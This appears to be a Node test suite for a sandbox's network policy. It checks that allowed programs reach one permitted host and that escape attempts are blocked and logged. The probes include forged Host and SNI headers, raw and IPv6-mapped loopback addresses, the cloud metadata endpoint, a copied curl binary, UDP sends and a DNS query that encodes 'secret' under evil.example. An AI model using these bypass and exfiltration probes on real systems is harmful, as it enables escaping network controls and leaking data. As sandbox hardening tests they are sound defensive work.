import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createReadStream, existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join, normalize } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { openshell, origin, records, type TestOrigin, type Workplace, workplace } from './harness.ts';

const HOST = 'api.example.test';

/** A policy that opens one host; `**` as binary means any program of the system. */
const policyFor = (host: string, access: string, extra = ''): string => `version: 1
filesystem_policy:
  include_workdir: true
  read_only: [/usr, /bin, /sbin, /lib, /lib64, /etc]
  read_write: [/tmp]
network_policies:
  api:
    endpoints:
      - { host: "${host}", port: 443, protocol: rest, access: ${access} }
${extra}    binaries: [{ path: /usr/** }]
`;

/** Runs a shell line inside; `--add-host` and the origin's authority are always given, so only the policy stands between. */
async function inside(place: Workplace, api: TestOrigin, policy: string, script: string, args: readonly string[] = []) {
  const options = [
    '--policy',
    place.file('policy.yaml', policy),
    '--upstream-ca',
    place.file('ca.pem', api.certificatePem),
  ];
  return await openshell(
    ['run', ...options, '--add-host', `${HOST}=127.0.0.1:${api.port}`, ...args, '--', 'sh', '-c', script],
    { home: place.home, cwd: place.workdir },
  );
}

describe('ordinary programs reach an allowed origin with no proxy settings', () => {
  const place = workplace('programs');
  let api: TestOrigin;
  before(async () => {
    const repository = join(place.directory, 'repository');
    const git = (...args: string[]) =>
      execFileSync(
        'git',
        ['-c', 'user.name=t', '-c', 'user.email=t@example.test', '-c', 'init.defaultBranch=main', ...args],
        {
          cwd: repository,
          env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: place.directory, GIT_CONFIG_NOSYSTEM: '1' },
        },
      );
    execFileSync('mkdir', ['-p', repository]);
    git('init', '-q');
    git('commit', '-q', '--allow-empty', '-m', 'first');
    git('update-server-info');
    api = await origin(HOST, (request, response) => {
      const path = normalize(new URL(request.url ?? '/', 'https://x').pathname);
      const file = join(repository, '.git', path.replace(/^\/repository\.git/, ''));
      if (!path.startsWith('/repository.git/')) return void response.end('from the origin\n');
      if (!existsSync(file)) return void response.writeHead(404).end();
      createReadStream(file).pipe(response);
    });
  });

  for (const [name, script] of [
    ['curl', `curl -sS https://${HOST}/a`],
    ['wget', `wget -qO- https://${HOST}/a`],
    [
      'python3 urllib',
      `/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("https://${HOST}/a").read().decode(), end="")'`,
    ],
  ] as const) {
    test(name, async () => {
      const result = await inside(place, api, policyFor(HOST, 'read-only'), script);
      assert.equal(result.stdout, 'from the origin\n', result.stderr);
    });
  }

  for (const [name, code] of [
    ['fetch', `console.log((await (await fetch("https://${HOST}/a")).text()).trim())`],
    ['https', `(await import("node:https")).get("https://${HOST}/a", (r) => r.pipe(process.stdout))`],
    [
      'http2 falls back',
      `const t = (await import("node:tls")).connect({host:"${HOST}",port:443,servername:"${HOST}",ALPNProtocols:["h2","http/1.1"]},()=>{` +
        `if (t.alpnProtocol!=="http/1.1") process.exit(3); t.write("GET /a HTTP/1.1\\r\\nHost: ${HOST}\\r\\nConnection: close\\r\\n\\r\\n")});` +
        't.on("data",(d)=>process.stdout.write(String(d).split("\\r\\n\\r\\n")[1]||""))',
    ],
  ] as const) {
    test(`node ${name}`, async () => {
      const node = join(process.execPath, '..', '..');
      const policy = policyFor(HOST, 'read-only').replace('/etc]', `/etc, ${node}]`).replace('/usr/**', `${node}/**`);
      const script = `exec ${process.execPath} --input-type=module -e '${code}'`;
      const result = await inside(place, api, policy, script);
      assert.match(result.stdout, /^from the origin/, result.stderr);
    });
  }

  test('git clone over https', async () => {
    const result = await inside(
      place,
      api,
      policyFor(HOST, 'read-only'),
      `git clone -q https://${HOST}/repository.git c && git -C c log --format=%s`,
    );
    assert.equal(result.stdout, 'first\n', result.stderr);
  });
});

describe('what the policy does not open', () => {
  const place = workplace('denied');
  const hostServer = createServer((_request, response) => response.end('from the host\n'));
  let api: TestOrigin;
  let hostPort = 0;
  before(async () => {
    api = await origin(HOST);
    hostServer.listen(0, '0.0.0.0');
    await once(hostServer, 'listening');
    hostPort = (hostServer.address() as AddressInfo).port;
  });
  after(() => hostServer.close());

  const status = (url: string, more = '') => `curl -s -m 10 -o /dev/null -w '%{http_code}' ${more} ${url}`;

  test('a method: 403 in JSON that says why; the origin never sees it; with the method open it arrives', async () => {
    const script = `curl -sS -X POST -d x=secret https://${HOST}/a`;
    const denied = await inside(place, api, policyFor(HOST, 'read-only'), script);
    const body = JSON.parse(denied.stdout);
    assert.equal(body.error, 'policy_denied');
    assert.deepEqual(
      [body.host, body.port, body.method, body.path, body.binary],
      [HOST, 443, 'POST', '/a', '/usr/bin/curl'],
    );
    assert.ok(body.reason && body.rule && body.allow_with, denied.stdout);
    assert.deepEqual(api.seen, []);
    const allowed = await inside(place, api, policyFor(HOST, 'full'), script);
    assert.equal(allowed.stdout, 'from the origin\n');
    assert.deepEqual(api.seen.splice(0), ['POST /a']);
  });

  for (const [name, url, more] of [
    ['a host by name', 'https://other.example.test/', ''],
    ['a host by name, http', 'http://other.example.test/', ''],
    ['a host by name, through a proxy variable', `https://${HOST}/`, '--proxy http://203.0.113.7:3128'],
    ['an IPv4 address', 'https://203.0.113.7/', '-k'],
    ['an IPv6 address', 'https://[2001:db8::7]/', '-k'],
    ['an address with a forged Host', 'http://203.0.113.7/', `-H 'Host: ${HOST}'`],
    ['an address with a forged SNI', `https://${HOST}/`, `-k --resolve ${HOST}:443:203.0.113.7`],
    ['another port of the open host', `https://${HOST}:8443/`, ''],
    ['the cloud metadata service', 'http://169.254.169.254/latest/meta-data/', ''],
  ] as const) {
    test(`${name} is refused; the open host answers in the same sandbox`, async () => {
      const script = `${status(url, more)}; echo; ${status(`https://${HOST}/control`)}`;
      const { stdout } = await inside(place, api, policyFor(HOST, 'read-only'), script);
      const [attack, control] = stdout.split('\n');
      assert.ok(attack === '403' || attack === '000', `${attack}`);
      assert.equal(control, '200');
      assert.deepEqual(api.seen.splice(0), ['GET /control']);
    });
  }

  test('a binary that the policy does not name, and one that the sandbox could have written', async () => {
    const script = `cp /usr/bin/curl /tmp/curl; ${status(`https://${HOST}/own`).replace('curl', '/tmp/curl')}; echo; ${status(`https://${HOST}/control`)}`;
    const { stdout } = await inside(place, api, policyFor(HOST, 'read-only').replace('/usr/**', '/**/curl'), script);
    assert.deepEqual(stdout.split('\n'), ['403', '200']);
    assert.deepEqual(api.seen.splice(0), ['GET /control']);
  });

  test('a dead process that nobody has reaped does not hide who connects', async () => {
    const lines = ['import os, subprocess', 'if os.fork() == 0: os._exit(0)', 'subprocess.run(["sh", "-c", SCRIPT])'];
    const script = lines.join('\n').replace('SCRIPT', JSON.stringify(status(`https://${HOST}/control`)));
    const { stdout } = await inside(
      place,
      api,
      policyFor(HOST, 'read-only'),
      `/usr/bin/python3 -c '${script.replaceAll("'", `'\\''`)}'`,
    );
    assert.equal(stdout, '200');
    api.seen.length = 0;
  });

  test('the host’s own ports: on loopback and on every address it has', async () => {
    const own = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
    const addresses = [
      '127.0.0.1',
      '[::1]',
      ...own.filter(({ family, internal }) => family === 'IPv4' && !internal).map(({ address }) => address),
    ];
    const control = await fetch(`http://127.0.0.1:${hostPort}/`);
    assert.equal(await control.text(), 'from the host\n');
    for (const address of addresses) {
      const { stdout } = await inside(
        place,
        api,
        policyFor(HOST, 'read-only'),
        `curl -s -m 10 http://${address}:${hostPort}/`,
      );
      assert.doesNotMatch(stdout, /from the host/, address);
    }
  });

  test('a listed name that resolves to the host: refused unless the operator says so', async () => {
    const policy = policyFor('localhost.example.test', 'read-only').replaceAll(
      '443, protocol',
      `${hostPort}, protocol`,
    );
    const script = `curl -s -m 10 http://localhost.example.test:${hostPort}/`;
    const mapped = await inside(place, api, policy, script, ['--add-host', 'localhost.example.test=127.0.0.1']);
    assert.equal(mapped.stdout, 'from the host\n', 'the operator’s word');
    const literal = policy.replaceAll('localhost.example.test', '0.0.0.0');
    const forms = `for a in 0.0.0.0 '[::ffff:127.0.0.1]' '[64:ff9b::7f00:1]' '[2002:7f00:1::]'; do curl -s -m 5 http://$a:${hostPort}/; done`;
    const { stdout } = await inside(place, api, literal, forms);
    assert.doesNotMatch(stdout, /from the host/);
  });

  test('UDP to anywhere is refused and on record; outside it arrives', async () => {
    const socket = createSocket('udp4').bind(0, '127.0.0.1');
    await once(socket, 'listening');
    const { port } = socket.address();
    const send = `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("203.0.113.9", 4433))`;
    const arrived = once(socket, 'message');
    execFileSync('/usr/bin/python3', ['-c', send.replace('203.0.113.9', '127.0.0.1').replace('4433', String(port))]);
    await arrived;
    socket.close();
    const result = await inside(
      place,
      api,
      policyFor(HOST, 'read-only'),
      `/usr/bin/python3 -c '${send}' 2>&1 | tail -1`,
      ['--name', 'udp'],
    );
    assert.match(result.stdout, /PermissionError|Operation not permitted|refused/);
    const seen = (await records(join(place.home, 'audit', 'udp'))).map(({ record }) => JSON.stringify(record));
    assert.ok(
      seen.some((line) => line.includes('203.0.113.9') && line.includes('4433')),
      'destination on record',
    );
  });

  test('DNS carries nothing out: TXT has no answer, names get addresses of our pool', async () => {
    const script = `
import socket, struct
def ask(name, kind):
    q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("9.9.9.9", 53)); r = s.recv(512)
    return struct.unpack(">H", r[6:8])[0]
print(ask("c2VjcmV0.evil.example", 16), ask("c2VjcmV0.evil.example", 1), socket.gethostbyname("c2VjcmV0.evil.example"))
`;
    place.file('dns.py', script);
    execFileSync('cp', [join(place.directory, 'dns.py'), place.workdir]);
    const { stdout, stderr } = await inside(place, api, policyFor(HOST, 'read-only'), '/usr/bin/python3 dns.py');
    assert.match(stdout, /^0 1 198\.1[89]\.\d+\.\d+\n$/, stderr);
  });

  test('every denial is on record with process, host and rule', async () => {
    await inside(place, api, policyFor(HOST, 'read-only'), status('https://nowhere.example.test/'), [
      '--name',
      'recorded',
    ]);
    const logged = await records(join(place.home, 'audit', 'recorded'));
    const denied = logged
      .map(({ record }) => JSON.stringify(record))
      .filter((line) => line.includes('nowhere.example.test') && line.includes('"Blocked"'));
    assert.ok(
      denied.some((line) => line.includes('/usr/bin/curl') && line.includes('firewall_rule')),
      denied.join('\n'),
    );
  });
});
